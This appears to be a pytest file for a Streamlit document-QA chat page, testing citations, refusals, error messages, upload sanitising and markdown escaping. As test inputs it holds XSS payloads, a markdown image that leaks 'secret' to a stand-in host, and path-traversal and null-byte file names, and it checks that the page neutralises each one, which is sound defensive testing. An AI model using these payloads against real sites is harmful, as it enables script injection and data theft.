"""Specification of the chat page (app.py, page/) and its helpers (rag/uploads.py, rag/markdown.py).

The page runs under Streamlit's AppTest against a real index built in a temporary folder from two corpus
documents, with the real embedded model (SmolLM2 through llama.cpp). Answers of a 135M model vary, so the
page tests assert on what the page guarantees (a cited answer or a refusal, sources with their passages,
errors as one line with a way forward), never on the model's wording.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from rag import uploads
from rag.answer import Answer, Assistant, Citation
from rag.answer_text import PAGE_REFUSAL
from rag.config import Settings
from rag.errors import GenerationInterrupted
from rag.ingest import refresh
from rag.markdown import answer_markdown, escape_markdown
from rag.status import index_status
from rag.turns import Turn
from tests.conftest import ROOT, copy_corpus, make_settings

APP = str(ROOT / "app.py")
FALCON = "Which institute developed the Falcon models?"
OFF_TOPIC = "What is the boiling point of water in Fahrenheit?"
EVIL = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)> "
    "![](http://evil/?q=secret) [x](javascript:alert(1))"
)
CLOSED_PORT = "http://127.0.0.1:9"  # nothing listens on the discard port
TIMEOUT = 300  # seconds for one page run: a cold model load on a busy machine


@pytest.fixture(scope="module")
def page_index(tmp_path_factory: pytest.TempPathFactory, embedder: Any) -> tuple[Path, Path]:
    """A corpus of two documents and its index, built once with the real pipeline."""
    root = tmp_path_factory.mktemp("page")
    corpus, index = copy_corpus(root / "corpus"), root / "index"
    refresh(make_settings(root), embedder=embedder)
    return corpus, index


def use(monkeypatch: pytest.MonkeyPatch, corpus: Path, index: Path, backend: str = "embedded") -> None:
    monkeypatch.setenv("RAG_CORPUS_DIR", str(corpus))
    monkeypatch.setenv("RAG_INDEX_DIR", str(index))
    monkeypatch.setenv("RAG_BACKEND", backend)
    monkeypatch.setenv("OLLAMA_HOST", CLOSED_PORT)  # the sidebar probes Ollama: never a real one
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")


@pytest.fixture
def page_env(monkeypatch: pytest.MonkeyPatch, page_index: tuple[Path, Path]) -> tuple[Path, Path]:
    use(monkeypatch, *page_index)
    return page_index


@pytest.fixture
def own_index(
    monkeypatch: pytest.MonkeyPatch, page_index: tuple[Path, Path], tmp_path: Path
) -> tuple[Path, Path]:
    """A private copy of the built corpus and index, for tests that change them."""
    corpus, index = tmp_path / "corpus", tmp_path / "index"
    shutil.copytree(page_index[0], corpus)
    shutil.copytree(page_index[1], index)
    use(monkeypatch, corpus, index)
    return corpus, index


def open_page() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.run()
    assert not at.exception
    return at


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception
    return at


def last_reply(at: AppTest) -> Any:
    replies = [m for m in at.chat_message if m.name == "assistant"]
    assert replies, "no assistant message on the page"
    return replies[-1]


def bodies(block: Any) -> str:
    return "\n".join(m.value for m in block.markdown)


def captions(block: Any) -> str:
    return "\n".join(c.value for c in block.caption)


def plain(markdown: str) -> str:
    """What escaped markdown reads as: backslash escapes, word joiners and no-break indents undone."""
    return re.sub(r"\\([!-/:-@[-`{-~])", r"\1", markdown).replace("\u2060", "").replace("\u00a0", " ")


def words(text: str) -> str:
    return " ".join(text.split())


# The chat.


@pytest.mark.slow
def test_answer_has_citation_markers_and_sources_with_their_passages(page_env: tuple[Path, Path]) -> None:
    at = ask(open_page(), FALCON)
    reply = last_reply(at)
    answer: Answer = at.session_state["turns"][-1].answer
    assert not answer.refused
    assert "[1]" in plain(bodies(reply))
    sources = reply.expander
    assert len(sources) == len(answer.citations) >= 1
    first = answer.citations[0]
    assert plain(sources[0].label).startswith(f"[1] {first.title}")
    # The passage is shown whole, its markup left out and the quoted span in bold: the same words.
    alnum = re.compile(r"[A-Za-z0-9]+")
    assert alnum.findall(plain(bodies(sources[0]))) == alnum.findall(first.text)
    assert f"{first.source} · line" in plain(captions(sources[0]))


@pytest.mark.slow
def test_follow_up_is_searched_as_a_standalone_question_and_shown(page_env: tuple[Path, Path]) -> None:
    at = ask(ask(open_page(), FALCON), "And which models did Mistral AI release?")
    turns = at.session_state["turns"]
    assert len(turns) == 2
    assert [m.name for m in at.chat_message] == ["user", "assistant", "user", "assistant"]
    standalone = turns[1].answer.standalone
    if standalone != turns[1].question:
        assert f"Searched for: {standalone}" in plain(captions(last_reply(at)))


@pytest.mark.slow
def test_question_outside_the_corpus_is_refused_with_a_way_forward(page_env: tuple[Path, Path]) -> None:
    at = ask(open_page(), OFF_TOPIC)
    reply = last_reply(at)
    assert at.session_state["turns"][-1].answer.refused
    assert PAGE_REFUSAL in plain(bodies(reply))
    assert "Add documents" in captions(reply)
    assert not reply.expander  # a refusal cites nothing


@pytest.mark.slow
def test_a_second_question_reuses_the_loaded_models(
    page_env: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    import rag.embeddings
    import rag.llm

    loads: list[str] = []
    load_embedder, model_init = rag.embeddings.load_embedder, rag.llm.EmbeddedModel.__init__

    def counting_load(settings: Settings) -> Any:
        loads.append("embedder")
        return load_embedder(settings)

    def counting_init(self: Any, settings: Settings) -> None:
        loads.append("llm")
        model_init(self, settings)

    monkeypatch.setattr(rag.embeddings, "load_embedder", counting_load)
    monkeypatch.setattr(rag.llm.EmbeddedModel, "__init__", counting_init)
    at = ask(open_page(), FALCON)
    before = list(loads)
    ask(at, "Which models from Mistral AI are mentioned?")
    assert loads == before
    assert loads.count("embedder") <= 1
    assert loads.count("llm") <= 1


@pytest.mark.slow
def test_new_chat_clears_the_conversation(page_env: tuple[Path, Path]) -> None:
    at = ask(open_page(), OFF_TOPIC)
    assert at.chat_message
    next(b for b in at.sidebar.button if b.label == "New chat").click().run()
    assert not at.exception
    assert not at.chat_message
    assert at.session_state["turns"] == []


def test_example_questions_are_offered_on_an_empty_chat(page_env: tuple[Path, Path]) -> None:
    at = open_page()
    labels = [b.label for b in at.button]
    assert FALCON in labels


# The sidebar.


def test_sidebar_shows_corpus_status_backend_and_retrieval_settings(page_env: tuple[Path, Path]) -> None:
    corpus, index = page_env
    status = index_status(Settings(corpus_dir=corpus, index_dir=index))
    at = open_page()
    metrics = {m.label: m.value for m in at.sidebar.metric}
    assert metrics == {"Documents": "2", "Chunks": str(status.chunks)}
    side = "\n".join(c.value for c in at.sidebar.caption) + "\n".join(m.value for m in at.sidebar.markdown)
    assert "all-MiniLM-L6-v2" in plain(side)
    assert "Refreshed" in side
    assert "Answers quoted from the documents" in plain(side)
    assert "Ollama" in side
    assert at.sidebar.slider[0].value == 5
    assert at.sidebar.selectbox[0].value == "embedded"
    assert any(b.label == "New chat" for b in at.sidebar.button)
    assert f"up to {uploads.MAX_UPLOAD_MB} MB" in at.sidebar.file_uploader[0].label


# Errors: one line and a way forward, never a traceback.


def test_empty_question_is_explained(page_env: tuple[Path, Path]) -> None:
    at = ask(open_page(), "   ")
    assert "question is empty" in at.error[0].value


@pytest.mark.slow
def test_missing_index_offers_to_build_it_and_then_answers(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    use(monkeypatch, copy_corpus(tmp_path / "corpus"), tmp_path / "index")
    at = open_page()
    assert any(b.label == "Build index" for b in at.main.button)
    ask(at, FALCON)
    assert "no index" in at.error[0].value
    next(b for b in at.button if b.label == "Build index and ask again").click().run()
    assert not at.exception
    assert not at.error
    assert {m.label: m.value for m in at.sidebar.metric}["Documents"] == "2"
    assert at.session_state["turns"][-1].answer is not None
    assert "Index refreshed" in at.sidebar.success[0].value


@pytest.mark.slow
def test_unreachable_ollama_is_explained_and_the_embedded_model_offered(
    monkeypatch: pytest.MonkeyPatch, page_index: tuple[Path, Path]
) -> None:
    use(monkeypatch, *page_index, backend="ollama")
    at = open_page()
    assert "not reachable" in "\n".join(m.value for m in at.sidebar.markdown)
    ask(at, FALCON)
    assert "Ollama" in at.error[0].value
    next(b for b in at.button if b.label == "Answer without Ollama").click().run()
    assert not at.exception
    assert not at.error
    assert at.session_state["turns"][-1].answer.backend == "spans"


def test_model_error_mid_answer_is_one_line_with_ask_again(
    page_env: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(self: Assistant, *args: Any, **kwargs: Any) -> Iterator[Any]:
        raise GenerationInterrupted("the model stopped mid-answer: connection reset")
        yield

    monkeypatch.setattr(Assistant, "ask_stream", broken)
    at = ask(open_page(), FALCON)
    assert at.error[0].value.startswith("the model stopped mid\\-answer")
    assert any(b.label == "Ask again" for b in at.button)


def test_unexpected_error_is_one_line(page_env: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(self: Assistant, *args: Any, **kwargs: Any) -> Iterator[Any]:
        raise ValueError("disk on fire")
        yield

    monkeypatch.setattr(Assistant, "ask_stream", broken)
    at = ask(open_page(), FALCON)
    assert "ValueError" in at.error[0].value
    assert "disk on fire" in at.error[0].value
    assert "Traceback" not in at.error[0].value


def test_broken_upload_is_refused_with_the_reason_and_nothing_is_saved(own_index: tuple[Path, Path]) -> None:
    corpus, _ = own_index
    before = sorted(p.name for p in corpus.iterdir())
    at = open_page()
    at.sidebar.file_uploader[0].set_value(("notes.md", b"caf\xe9 au lait", "text/markdown")).run()
    next(b for b in at.sidebar.button if b.label == "Add and index").click().run()
    assert not at.exception
    message = plain(at.sidebar.error[0].value)
    assert "No file was saved" in message
    assert "not UTF-8" in message
    assert sorted(p.name for p in corpus.iterdir()) == before


@pytest.mark.slow
def test_upload_is_saved_indexed_and_summarised(own_index: tuple[Path, Path]) -> None:
    corpus, _ = own_index
    text = b"# Tea\n\nOolong tea is partially oxidised, between green and black tea.\n"
    at = open_page()
    at.sidebar.file_uploader[0].set_value(("../../tea notes.md", text, "text/markdown")).run()
    next(b for b in at.sidebar.button if b.label == "Add and index").click().run()
    assert not at.exception
    assert (corpus / "tea-notes.md").read_bytes() == text
    summary = plain(at.sidebar.success[0].value)
    assert "1 added" in summary
    assert "tea-notes.md" in summary
    assert {m.label: m.value for m in at.sidebar.metric}["Documents"] == "3"


# Text from documents and the model is shown, never rendered.


def evil_turn() -> Turn:
    cite = Citation(
        1,
        "evil.md",
        f"Title {EVIL}",
        "Section ![](http://evil/s.png)",
        f"Passage {EVIL}\n" + "A" * 500,
        0,
        10,
        3,
        4,
        0.5,
    )
    answer = Answer(
        question="q",
        standalone="q",
        text=f"Answer {EVIL} [1].",
        refused=False,
        citations=[cite],
        backend="embedded",
        model="m",
        mode="generated",
        timings={"total_s": 1.0},
    )
    return Turn("q <b>bold</b>", answer=answer)


def assert_inert(markdown: str) -> None:
    """No tag, link or image can start: `<>[]()!` all escaped, no bare `scheme:` left for link detection."""
    live = re.findall(r"(?<!\\)(?:\\\\)*([<>\[\]()!])", markdown)
    assert not live, f"unescaped {live} would render: {markdown!r}"
    bare = re.search(r"\w\\:\\/|(mailto|xmpp)\\:|(?<!\u2060)\\@|(?<!\\)[:@]|www\\\.", markdown, re.I)
    assert not bare, f"{bare[0]!r} could become a link: {markdown!r}"


def test_html_and_markdown_from_answers_and_passages_are_escaped(page_env: tuple[Path, Path]) -> None:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.session_state["turns"] = [evil_turn()]
    at.run()
    assert not at.exception
    reply = last_reply(at)
    for markdown in [m.value for m in at.main.markdown] + [e.label for e in reply.expander]:
        assert_inert(markdown)
    assert EVIL in plain(bodies(reply))
    assert f"Passage {EVIL}" in plain(bodies(reply.expander[0]))
    assert "<b>bold</b>" in plain(bodies(at.chat_message[0]))


# rag/uploads.py: upload names and saving.


@pytest.mark.parametrize(
    ("raw", "saved_as"),
    [
        ("notes.md", "notes.md"),
        ("corpus/../x.md", "x.md"),
        ("../../x.md", "x.md"),
        ("/etc/x.md", "x.md"),
        ("C:\\Users\\me\\report.PDF", "report.pdf"),
        (".hidden.md", "hidden.md"),
        ("My Report (final).html", "My-Report-final.html"),
        ("line\nbreak.txt", "line-break.txt"),
    ],
)
def test_upload_names_are_reduced_to_a_safe_base_name(raw: str, saved_as: str) -> None:
    assert uploads.safe_upload_name(raw) == saved_as


@pytest.mark.parametrize("raw", ["../../etc/passwd", "a.md\x00.txt", "..md", "...", "/", "x.exe", "noext"])
def test_unsafe_or_unsupported_upload_names_are_rejected(raw: str) -> None:
    with pytest.raises(uploads.UploadRejected):
        uploads.safe_upload_name(raw)


def test_upload_is_saved_inside_the_corpus_folder_only(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    saved = uploads.save_upload(corpus, "../../../escape.md", b"# Hi\n")
    assert saved.path == corpus / "escape.md"
    assert [p.name for p in tmp_path.rglob("*") if p.is_file()] == ["escape.md"]


def test_same_name_with_other_content_is_saved_under_a_new_name(tmp_path: Path) -> None:
    first = uploads.save_upload(tmp_path, "a.md", b"one")
    again = uploads.save_upload(tmp_path, "a.md", b"one")
    other = uploads.save_upload(tmp_path, "a.md", b"two")
    third = uploads.save_upload(tmp_path, "sub/a.md", b"three")
    assert (first.outcome, again.outcome, other.outcome, third.outcome) == (
        "saved",
        "identical",
        "renamed",
        "renamed",
    )
    assert (tmp_path / "a.md").read_bytes() == b"one"
    assert (other.name, third.name) == ("a-2.md", "a-3.md")
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "a-2.md",
        "a-3.md",
        "a.md",
    ]  # no temporary files left


def test_uploads_over_the_size_limit_are_refused(tmp_path: Path) -> None:
    with pytest.raises(uploads.UploadRejected, match="over the 10 MB upload limit"):
        uploads.save_upload(tmp_path, "big.txt", b"a" * (uploads.MAX_UPLOAD_BYTES + 1))
    assert uploads.save_upload(tmp_path, "fits.txt", b"a" * uploads.MAX_UPLOAD_BYTES).outcome == "saved"
    assert not (tmp_path / "big.txt").exists()


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("empty.md", b"", "empty"),
        ("blank.txt", b" \n\n ", "no text"),
        ("latin1.md", b"caf\xe9", "not UTF-8"),
        ("binary.txt", b"\x00\x01\x02", "binary"),
        ("fake.pdf", b"<html>not a pdf</html>", "not a PDF"),
    ],
)
def test_broken_uploads_are_refused_with_a_reason(
    tmp_path: Path, name: str, data: bytes, reason: str
) -> None:
    with pytest.raises(uploads.UploadRejected, match=reason):
        uploads.save_upload(tmp_path, name, data)
    assert list(tmp_path.iterdir()) == []


# rag/markdown.py: inert markdown.


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "![](http://x/?q=secret)",
        "see http://evil.example/a or www.evil.example or me@evil.example",
        ":red[coloured] :material/home: $x^2$ **bold** `code` ~~gone~~",
        "# heading\n    indented code\n1. list\n- list\n> quote\n| a | b |",
    ],
)
def test_escaped_markdown_reads_exactly_as_the_text(text: str) -> None:
    escaped = escape_markdown(text)
    assert_inert(escaped)
    assert words(plain(escaped)) == words(text)


def test_answer_markers_are_bold_and_the_rest_escaped() -> None:
    assert answer_markdown("TII made Falcon [1][2]. *Really* [3].") == (
        "TII made Falcon **\\[1\\]\\[2\\]**\\. \\*Really\\* **\\[3\\]**\\."
    )


def test_library_messages_keep_their_code_spans() -> None:
    assert escape_markdown("no index in my_dir; run `rag ingest`", keep_code=True) == (
        "no index in my\\_dir\\; run `rag ingest`"
    )


def test_check_a_claim_shows_the_verdict_and_the_deciding_passage(page_env: tuple[Path, Path]) -> None:
    at = open_page()
    at.segmented_control[0].set_value("Check a claim").run()
    at.text_area[0].set_value("Falcon was developed by Meta.")
    next(b for b in at.button if b.label == "Check the claim").click().run()
    assert not at.exception
    assert "Contradicted by the documents" in "\n".join(m.value for m in at.markdown)
    assert at.expander
    assert "Technology Innovation Institute" in plain(bodies(at.expander[0]))


def test_a_new_question_with_a_pronoun_about_its_own_subject_is_answered_about_that_subject(
    page_env: tuple[Path, Path],
) -> None:
    at = ask(
        ask(open_page(), "Which institute developed the Falcon models?"), "Who makes Bard, and what is it?"
    )
    answer = at.session_state["turns"][-1].answer
    assert answer.standalone == "Who makes Bard, and what is it?"
    assert "Google" in answer.text.split("\n\n")[0]
